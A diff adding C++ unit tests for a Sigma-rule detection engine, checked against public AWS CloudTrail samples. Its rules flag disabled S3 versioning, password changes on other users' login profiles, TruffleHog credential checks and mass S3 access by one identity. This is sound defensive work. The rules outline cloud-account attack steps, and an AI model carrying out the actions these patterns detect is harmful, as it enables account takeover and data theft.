+    out.emplace_back(simdjson::minify(log), expected);
+  }
+  return out;
+}
+
+/// Evaluates `r` on one raw record (as the ingest pipeline reads it).
+bool matches_record(const Rule& r, const std::string& record) {
+  EvalSink sink(r);
+  ingest::Reader reader(ingest::ParseOptions{});
+  reader.read_bytes("panther.json", "{\"Records\":[" + record + "]}", sink);
+  EXPECT_EQ(sink.rejects, 0) << record;
+  return sink.results.size() == 1 && sink.results[0];
+}
+
+TEST(SigmaCorpus, PantherTestEventsAgreeWithOurRules) {
+  SENTINEL_REQUIRE_CORPUS(corpus);
+  // Our rules for what two Panther rules look for, written in Sigma: S3 versioning suspended or
+  // disabled (a string match on the requestParameters object), and a login profile changed for
+  // another user (fieldref), without a forced reset.
+  auto rules = load_text(R"(title: Bucket versioning switched off
+id: s-1
+logsource: {product: aws, service: cloudtrail}
+detection:
+  sel:
+    eventSource: s3.amazonaws.com
+    eventName: PutBucketVersioning
+    requestParameters|contains:
+      - '"Status":"Suspended"'
+      - '"Status":"Disabled"'
+  failed:
+    errorCode|exists: true
+  condition: sel and not failed
+---
+title: Password of another user changed
+id: s-2
+logsource: {product: aws, service: cloudtrail}
+detection:
+  sel:
+    eventName: UpdateLoginProfile
+    requestParameters.passwordResetRequired: false
+  own:
+    userIdentity.arn|fieldref|endswith: requestParameters.userName
+  condition: sel and not own
+)");
+  ASSERT_EQ(rules.size(), 2u);
+  int checked = 0;
+  for (const auto& [rule, panther_id] : std::vector<std::pair<const Rule*, std::string>>{
+           {&rules[0], "AWS.S3.SuspendVersioning"},
+           {&rules[1], "AWS.User.Login.Profile.Modified"}}) {
+    auto tests = panther_tests(corpus, panther_id);
+    EXPECT_GE(tests.size(), 3u) << panther_id;
+    for (const auto& [record, expected] : tests) {
+      EXPECT_EQ(matches_record(*rule, record), expected) << panther_id << ": " << record;
+      ++checked;
+    }
+  }
+  EXPECT_GE(checked, 6);
+}
+
+TEST(SigmaCorpus, KeywordsOnPantherEvents) {
+  SENTINEL_REQUIRE_CORPUS(corpus);
+  // A keyword rule for TruffleHog's user agent, checked against Panther's TruffleHog tests: the
+  // keyword finds the tool wherever the record names it.
+  Rule r = load1(
+      "  kw:\n    - 'trufflehog'\n  sel:\n    eventName: GetCallerIdentity\n  "
+      "condition: sel and kw\n");
+  auto tests = panther_tests(corpus, "AWS.STS.GetCallerIdentity.TruffleHog");
+  ASSERT_GE(tests.size(), 2u);
+  int positives = 0;
+  for (const auto& [record, expected] : tests) {
+    EXPECT_EQ(matches_record(r, record), expected) << record;
+    positives += expected;
+  }
+  EXPECT_GE(positives, 1);
+}
+
+TEST(SigmaCorpus, CorrelationsOnTheOpenSearchSample) {
+  SENTINEL_REQUIRE_CORPUS(corpus);
+  const std::string path = corpus +
+                           "/opensearch-project__opensearch-catalog/integrations/observability/"
+                           "aws_cloudtrail/data/raw-large-samples.json";
+  const std::string data = read_file(path);
+  ASSERT_FALSE(data.empty()) << path;
+  // Independently of the rules: the identity with the most S3 calls in the sample, and the
+  // number of distinct buckets it touched (simdjson over the raw file).
+  std::map<std::string, int> s3_calls;
+  std::map<std::string, std::set<std::string>> buckets;
+  {
+    simdjson::dom::parser parser;
+    simdjson::dom::element root;
+    ASSERT_EQ(parser.parse(data).get(root), simdjson::SUCCESS);
+    for (simdjson::dom::element rec : root["Records"].get_array()) {
+      std::string_view src, arn, bucket;
+      if (rec["eventSource"].get_string().get(src) || src != "s3.amazonaws.com") continue;
+      if (rec["userIdentity"]["arn"].get_string().get(arn)) continue;
+      ++s3_calls[std::string(arn)];
+      if (!rec["requestParameters"]["bucketName"].get_string().get(bucket)) {
+        buckets[std::string(arn)].insert(std::string(bucket));
+      }
+    }
+  }
+  ASSERT_FALSE(s3_calls.empty());
+  auto top = std::max_element(s3_calls.begin(), s3_calls.end(),
+                              [](const auto& a, const auto& b) { return a.second < b.second; });
+  const std::size_t top_buckets = buckets[top->first].size();
+  ASSERT_GE(top->second, 2);
+  ASSERT_GE(top_buckets, 2u);
+  // The whole sample spans five minutes: a one-hour window sees all of it.
+  auto rules_for = [&](int count, std::size_t distinct) {
+    return load_text(R"(title: S3 call
+name: s3_call
+logsource: {product: aws, service: cloudtrail}
+detection: {sel: {eventSource: s3.amazonaws.com}, condition: sel}
+---
+title: Many S3 calls by one identity
+id: k-count
+correlation:
+  type: event_count
+  rules: s3_call
+  group-by: [userIdentity.arn]
+  timespan: 1h
+  condition: {gte: )" +
+                     std::to_string(count) + R"(}
+---
+title: Many buckets by one identity
+id: k-distinct
+correlation:
+  type: value_count
+  rules: s3_call
+  group-by: [userIdentity.arn]
+  timespan: 1h
+  condition: {field: requestParameters.bucketName, gte: )" +
+                     std::to_string(distinct) + "}\n");
+  };
+  auto count_of = [](const std::vector<findings::Finding>& fs, const std::string& prefix) {
+    int n = 0;
+    for (const auto& f : fs) n += f.type.rfind(prefix, 0) == 0;
+    return n;
+  };
+  // At the top identity's totals both fire (for it at least); one above, neither can.
+  auto at = run_engine(rules_for(top->second, top_buckets), data, path);
+  EXPECT_GE(count_of(at, "UnauthorizedAccess:S3/ManyS3CallsByOneIdentity.Sigma"), 1);
+  EXPECT_GE(count_of(at, "UnauthorizedAccess:S3/ManyBucketsByOneIdentity.Sigma"), 1);
+  EXPECT_EQ(count_of(at, "UnauthorizedAccess:S3/S3Call.Sigma"), 0);  // base rule silenced
+  int most_buckets = 0;
+  for (const auto& [arn, set] : buckets) most_buckets = std::max<int>(most_buckets, set.size());
+  auto above = run_engine(rules_for(top->second + 1, most_buckets + 1), data, path);
+  int max_calls = 0;
+  for (const auto& [arn, n] : s3_calls) max_calls = std::max(max_calls, n);
+  if (max_calls == top->second) {
+    EXPECT_EQ(count_of(above, "UnauthorizedAccess:S3/ManyS3CallsByOneIdentity.Sigma"), 0);
+  }
+  EXPECT_EQ(count_of(above, "UnauthorizedAccess:S3/ManyBucketsByOneIdentity.Sigma"), 0);
+}
+
+// ---------------------------------------------------------------------------------------------
+// The compatibility check (`sentinel rules check --sigma`), CI-safe: original rules in
+// tests/unit/detect_sigma/compat/, some loading and some refused.
+
+TEST(SigmaCheckDir, CountsLoadedAndRefusedWithReasons) {
+  namespace fs = std::filesystem;
+  const std::string dir =
+      (fs::path(source_dir()) / "tests" / "unit" / "detect_sigma" / "compat").string();
+  detect::SigmaDirReport rep = detect::check_sigma_dir(dir);
+  ASSERT_TRUE(rep.error.empty()) << rep.error;
+  std::map<std::string, const detect::SigmaFileResult*> by_name;
+  for (const auto& f : rep.files) by_name[fs::path(f.path).filename().string()] = &f;
+  std::size_t loaded = 0;
+  for (const auto& [name, f] : by_name) {
+    // Files are named for what they should do: ok_* load, refused_* do not.
+    if (name.rfind("ok_", 0) == 0) {
+      EXPECT_TRUE(f->loaded) << f->error;
+      ++loaded;
+    } else {
+      EXPECT_FALSE(f->loaded) << name;
+      EXPECT_HAS(f->error, name);
+      EXPECT_FALSE(f->reason.empty());
+      EXPECT_EQ(f->reason.find(name), std::string::npos) << f->reason;  // reason without file
+    }
+  }
+  EXPECT_EQ(rep.loaded, loaded);
+  EXPECT_EQ(rep.loaded + rep.refused, rep.files.size());
+  EXPECT_GE(rep.files.size(), 6u);
+  ASSERT_TRUE(by_name.count("ok_correlation.yml"));
+  EXPECT_EQ(by_name["ok_correlation.yml"]->correlations, 1u);
+  ASSERT_TRUE(by_name.count("refused_aggregation.yml"));
+  EXPECT_HAS(by_name["refused_aggregation.yml"]->reason, "aggregation");
+  // Subfolders are walked.
+  EXPECT_TRUE(by_name.count("ok_nested.yml"));
+  EXPECT_FALSE(detect::check_sigma_dir(dir + "/no-such-dir").error.empty());
 }
 
 // ---------------------------------------------------------------------------------------------
